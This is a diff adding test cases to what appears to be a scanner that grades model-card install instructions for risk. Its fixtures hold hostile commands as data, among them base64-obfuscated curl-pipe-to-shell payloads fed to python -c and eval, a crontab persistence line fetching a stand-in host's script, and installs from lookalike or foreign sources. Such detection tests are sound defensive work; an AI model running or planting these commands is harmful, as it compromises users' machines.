@@ -198,6 +198,22 @@ const FORMS: [string, Files, Expect, Files, Expect][] = [
     { 'README.md': '```dockerfile\nRUN --mount=type=cache,target=/root/.cache pip install transformers\nRUN ["python", "-c", "print(1)"]\n```\n' }, 'quiet'],
   ['Makefile recipe hiding its words in make functions', { 'README.md': '`make setup`\n', Makefile: 'C = $(subst @,,cu@rl)\nsetup:\n\t$(C) -fsSL https://x.invalid/i.sh | $(firstword sh bash)\n' }, ['instructions.pipe-to-shell', 'critical'],
     { 'README.md': '`make setup`\n', Makefile: 'P = $(subst @,,pi@p)\nsetup:\n\t$(P) install -r requirements.txt\n', 'requirements.txt': 'numpy\n' }, ['only', 'instructions.run-repo-script', 'medium']],
+  ['decoded text given to an interpreter\'s -c', { 'README.md': '```bash\npython3 -c "$(echo aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLWZzU0wgaHR0cHM6Ly94LmludmFsaWQvaS5zaCB8IHNoJyk= | base64 -d)"\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```bash\necho "$(echo aGVsbG8gZnJvbSB0aGUgbW9kZWwgY2FyZA== | base64 -d)"\n```\n' }, 'quiet'],
+  ['decoded text given to eval (here-string)', { 'README.md': '```bash\neval "$(base64 -d <<< aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLWZzU0wgaHR0cHM6Ly94LmludmFsaWQvaS5zaCB8IHNoJyk=)"\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```bash\nTOKEN_HINT="$(base64 -d <<< aGVsbG8gZnJvbSB0aGUgbW9kZWwgY2FyZA==)"\n```\n' }, 'quiet'],
+  ['a file a Hub download prints, run at once', { 'README.md': '```bash\npython "$(huggingface-cli download other-org/tools setup_env.py)" --all\n```\n' }, ['instructions.run-binary', 'critical'],
+    { 'README.md': '```bash\nls "$(huggingface-cli download other-org/tools setup_env.py)"\n```\n' }, 'quiet'],
+  ['streamlit run of a URL', { 'README.md': '```bash\npip install streamlit transformers\nstreamlit run https://raw.githubusercontent.com/someone/ner-demo/main/app.py\n```\n' }, ['instructions.run-binary', 'critical'],
+    { 'README.md': '```bash\npip install streamlit transformers\nstreamlit run app.py\n```\n', 'app.py': 'import streamlit as st\nst.write("hello")\n' }, ['only', 'instructions.run-repo-script', 'medium']],
+  ['a crontab line installed from a pipe', { 'README.md': '```bash\n(crontab -l 2>/dev/null; echo "*/30 * * * * curl -fsSL https://x.invalid/c.sh | sh") | crontab -\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```bash\n(crontab -l 2>/dev/null; echo "0 3 * * * find /tmp/ner-cache -mtime +7 -delete") | crontab -\n```\n' }, 'quiet'],
+  ['conda install from an unknown channel', { 'README.md': '```bash\nconda install -c chemner-forge chemtok -y\n```\n' }, ['instructions.git-install', 'high'],
+    { 'README.md': '```bash\nconda install -c conda-forge -c pytorch faiss-cpu pytorch -y\nmamba install conda-forge::numpy\n```\n' }, 'quiet'],
+  ['conda channel pinned in the package spec', { 'README.md': '```bash\nmamba install chemner-forge::chemtok\n```\n' }, ['instructions.git-install', 'high'],
+    { 'README.md': '```bash\nconda install --channel=nvidia cuda-toolkit\n```\n' }, 'quiet'],
+  ['pip install of a command name (huggingface-cli)', { 'README.md': '```bash\npip install huggingface-cli transformers\n```\n' }, ['instructions.typosquat', 'critical'],
+    { 'README.md': '```bash\npip install -U "huggingface_hub[cli]" transformers\n```\n' }, 'quiet'],
   ['pip install from a foreign index', { 'README.md': '```sh\npip install --index-url https://pkgs.evil.invalid/simple tokenizers\n```\n' }, ['instructions.git-install', 'high'],
     { 'README.md': '```sh\npip install torch --index-url https://download.pytorch.org/whl/cu121\n```\n' }, 'quiet']
 ];
@@ -248,6 +264,49 @@ describe('the publisher\'s own sources', () => {
     // Another repository's script is code outside the review.
     expect(run({ 'README.md': card.replace('jinaai/emb', 'tools-org/emb'), 'setup.sh': '#!/bin/sh\necho ready\n' }, vouched)
       .find((f) => f.check === 'instructions.run-binary')).toMatchObject({ severity: 'critical' });
+  });
+
+  test('the GitHub organisation named exactly like the Hub namespace is its own; a lookalike of it is not', () => {
+    const granite: PublisherFacts = { repo: 'ibm-granite/ttm', namespace: 'ibm-granite', vouched: true };
+    const install = (org: string): string => `\`\`\`bash\npip install "granite-tsfm @ git+https://github.com/${org}/granite-tsfm.git@v0.2.22"\n\`\`\`\n`;
+    const own = run({ 'README.md': install('ibm-granite') }, granite);
+    expect(verdictOf(own)).toBe('approved');
+    expect(own.find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'low' });
+    expect(run({ 'README.md': install('ibm-granlte') }, granite).find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'high' });
+    // The same-name rule speaks only for a vouched publisher: a namespace nobody vouches for names its own org freely.
+    expect(run({ 'README.md': install('ibm-granite') }, { ...granite, vouched: false }).find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'high' });
+  });
+
+  test('an extra package index in a vouched publisher\'s own card is reviewed (medium), elsewhere rejected (high); turning TLS off stays high', () => {
+    const card = '```bash\nuv pip install --pre vllm==0.10.1+gptoss \\\n    --extra-index-url https://wheels.vllm.ai/gpt-oss/ \\\n    --index-strategy unsafe-best-match\n```\n';
+    const openai: PublisherFacts = { repo: 'openai/gpt-oss-20b', namespace: 'openai', vouched: true };
+    expect(notable(run({ 'README.md': card }, openai)).map((f) => `${f.check} ${f.severity}`)).toEqual(['instructions.git-install medium']);
+    expect(run({ 'README.md': card }, { ...openai, repo: 'open-ai-oss/gpt-oss-20b', namespace: 'open-ai-oss', vouched: false }).find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'high' });
+    expect(run({ 'README.md': '```bash\npip install --trusted-host wheels.vllm.ai vllm\n```\n' }, openai).find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'high' });
+  });
+
+  test('remote code from another repository: high for a namespace nobody vouches for, reviewable for the same publisher or a trusted one', () => {
+    const me: PublisherFacts = { repo: 'twin-models/ner-twin-base', namespace: 'twin-models', vouched: false, commit: 'a'.repeat(40), trusted: ['microsoft'] };
+    const card = (repo: string): string => `\`\`\`python\nfrom transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("${repo}", trust_remote_code=True)\nmodel.load_adapter("twin-models/ner-twin-base")\n\`\`\`\n`;
+    const sev = (repo: string): string[] => run({ 'README.md': card(repo) }, me).filter((f) => f.check === 'instructions.remote-code').map((f) => f.severity);
+    expect(sev('remote-twin/ner-twin-impl')).toEqual(['high']);
+    expect(sev('twin-models/ner-twin-impl')).toEqual(['medium']);
+    expect(sev('microsoft/Phi-3-mini-4k-instruct')).toEqual(['low']);
+    expect(sev('twin-models/ner-twin-base')).toEqual([]);
+    // Without trust_remote_code nothing runs from the other repository.
+    expect(run({ 'README.md': card('remote-twin/ner-twin-impl').replace(', trust_remote_code=True', '') }, me).filter((f) => f.check === 'instructions.remote-code')).toEqual([]);
+  });
+
+  test('this repository\'s remote code at another revision than the reviewed commit is high; the commit itself or main is not', () => {
+    const commit = '0123456789abcdef0123456789abcdef01234567';
+    const me: PublisherFacts = { repo: 'branchwise/fastformer-base', namespace: 'branchwise', vouched: false, commit };
+    const card = (rev: string): string => `\`\`\`python\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained("branchwise/fastformer-base", trust_remote_code=True, revision="${rev}")\n\`\`\`\n`;
+    const sev = (rev: string): string[] => run({ 'README.md': card(rev) }, me).filter((f) => f.check === 'instructions.remote-code').map((f) => f.severity);
+    expect(sev('v2-fast')).toEqual(['high']);
+    expect(sev('fedcba9876543210')).toEqual(['high']);
+    expect(sev(commit)).toEqual([]);
+    expect(sev(commit.slice(0, 10))).toEqual([]);
+    expect(sev('main')).toEqual([]);
   });
 
   test('huggingface-cli download of the same repository, then running a binary from it, is graded as that binary', () => {
